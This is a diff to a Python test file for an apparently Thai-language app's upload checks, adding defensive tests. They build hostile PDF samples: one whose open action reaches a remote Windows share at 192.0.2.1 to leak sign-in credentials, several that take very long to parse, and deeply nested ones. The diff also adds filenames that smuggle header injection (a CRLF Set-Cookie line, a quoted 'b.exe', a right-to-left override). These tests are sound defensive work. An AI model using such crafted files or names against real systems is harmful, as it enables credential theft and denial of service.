@@ -1,10 +1,12 @@
 """Handed-in files: what is accepted, what is refused in which words, where they are kept."""
 
 import base64
+import email.message
 import hashlib
 import importlib
 import io
 import struct
+import time
 import zlib
 
 import pytest
@@ -14,7 +16,12 @@ from PIL.PngImagePlugin import PngInfo
 from pypdf import PdfWriter
 from pypdf.actions import JavaScript
 from pypdf.annotations import FreeText
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import (
+    DecodedStreamObject,
+    DictionaryObject,
+    NameObject,
+    TextStringObject,
+)
 from weasyprint import HTML
 
 from sistercity.audit.ledger import writing
@@ -29,6 +36,7 @@ from sistercity.files.content import (
 from sistercity.files.models import StoredFile
 from sistercity.files.names import safe_name, shown_name
 from sistercity.files.secrecy import mark_in
+from sistercity.files.sending import as_attachment
 
 # A photograph of 64 × 48 as telephones write them; only its reader is installed here.
 HEIC = base64.b64decode(
@@ -234,6 +242,77 @@ def _with_action(name):
     return change
 
 
+def _with_word_for_another_server(writer):
+    """As soon as it is opened it opens a file of another server, to which Windows signs in."""
+    action = DictionaryObject({
+        NameObject("/S"): NameObject("/GoToR"),
+        NameObject("/F"): TextStringObject("\\\\192.0.2.1\\share"),
+    })  # fmt: skip
+    opened = DictionaryObject({NameObject("/O"): action})
+    writer.pages[0][NameObject("/AA")] = opened
+
+
+def _drawn(orders, form=None):
+    """A document of one page that is drawn by these orders, perhaps with a form of the file's."""
+
+    def change(writer):
+        stream = DecodedStreamObject()
+        stream.set_data(orders)
+        page = writer.pages[0]
+        page[NameObject("/Contents")] = writer._add_object(stream.flate_encode())
+        font = DictionaryObject({
+            NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
+            NameObject("/BaseFont"): NameObject("/Helvetica"),
+        })  # fmt: skip
+        fonts = DictionaryObject({NameObject("/F1"): font})
+        resources = DictionaryObject({NameObject("/Font"): fonts})
+        if form:
+            drawn = DecodedStreamObject()
+            drawn.set_data(form)
+            drawn = drawn.flate_encode()
+            drawn.update({
+                NameObject("/Subtype"): NameObject("/Form"), NameObject("/Resources"): resources,
+            })  # fmt: skip
+            forms = DictionaryObject({NameObject("/X"): writer._add_object(drawn)})
+            page[NameObject("/Resources")] = DictionaryObject({
+                NameObject("/Font"): fonts, NameObject("/XObject"): forms,
+            })  # fmt: skip
+        else:
+            page[NameObject("/Resources")] = resources
+
+    return _document(change)
+
+
+WORDS = b"BT /F1 9 Tf (abcdefgh) Tj ET\n"
+
+
+@pytest.mark.parametrize(
+    ("orders", "form"),
+    [(WORDS * 400_000, None), (b"/X Do\n" * 4_000, WORDS * 20_000), (b" " * 90_000_000, None)],
+    ids=["ten megabytes of words", "a form drawn four thousand times", "ninety megabytes"],
+)
+def test_a_page_that_takes_for_ever_to_read_holds_nobody_up(orders, form, monkeypatch):
+    """Each is a file of some kilobytes; read to its end, the first takes its reader 20 seconds."""
+    monkeypatch.setattr("sistercity.files.pdf.PATIENCE_SECONDS", 1)
+    data = _drawn(orders, form)
+    assert len(data) < 200_000
+    started = time.process_time()
+    assert _read(data).page_count == 1
+    assert time.process_time() - started < 5
+
+
+def test_words_of_a_page_are_read_whatever_draws_them():
+    for orders, form in ((b"BT /F1 9 Tf (SECRET) Tj ET", None),
+                         (b"/X Do", b"BT /F1 9 Tf (SECRET) Tj ET")):  # fmt: skip
+        assert "มีเครื่องหมายชั้นความลับ “SECRET”" in _refusal(_drawn(orders, form))
+
+
+@pytest.mark.parametrize("nested", [b"[" * 100_000, b"<<" * 50_000, b"[" * 50_000 + b"]" * 50_000])
+def test_a_document_nested_beyond_measure_is_refused(nested):
+    data = b"%PDF-1.7\n1 0 obj\n" + nested + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
+    assert "เสียหายหรือไม่ครบ" in _refusal(data)
+
+
 def _with_form_script(writer):
     script = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})
     writer.root_object[NameObject("/AcroForm")] = script
@@ -247,8 +326,9 @@ def _with_form_script(writer):
         _with_action("/Launch"),
         _with_action("/JavaScript"),
         _with_form_script,
+        _with_word_for_another_server,
     ],
-    ids=["script", "embedded file", "launch", "script elsewhere", "form script"],
+    ids=["script", "embedded file", "launch", "script elsewhere", "form script", "other server"],
 )
 def test_a_document_that_does_something_by_itself_is_refused(change):
     words = _refusal(_document(change), "คำสั่ง.pdf")
@@ -336,6 +416,24 @@ def test_a_name_is_kept_with_the_suffix_of_its_content():
     assert safe_name("photo.exe", "image/jpeg") == "photo.exe.jpg"
     assert safe_name("photo.JPEG", "image/jpeg") == "photo.JPEG"
     assert safe_name("รายงาน", "application/pdf") == "รายงาน.pdf"
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['a"; filename="b.exe', "a\r\nSet-Cookie: x=1.pdf", "ก\u202efdp.exe", "a\x00b\\c%0d%0a.pdf"],
+)
+def test_no_name_writes_a_header_of_its_own(name):
+    """Also of files that were kept under a name before names were cleaned."""
+    for told in (name, safe_name(name, "application/pdf")):
+        header = as_attachment(io.BytesIO(b"x"), told, "application/pdf")["Content-Disposition"]
+        assert header.isascii()
+        assert header.isprintable()
+        message = email.message.Message()
+        message["Content-Disposition"] = header
+        assert message.get_content_disposition() == "attachment"
+        assert [key for key, _value in message.get_params(header="content-disposition")] in (
+            ["attachment", "filename"], ["attachment", "filename*"],
+        )  # fmt: skip
 
 
 def test_a_long_name_keeps_its_end():
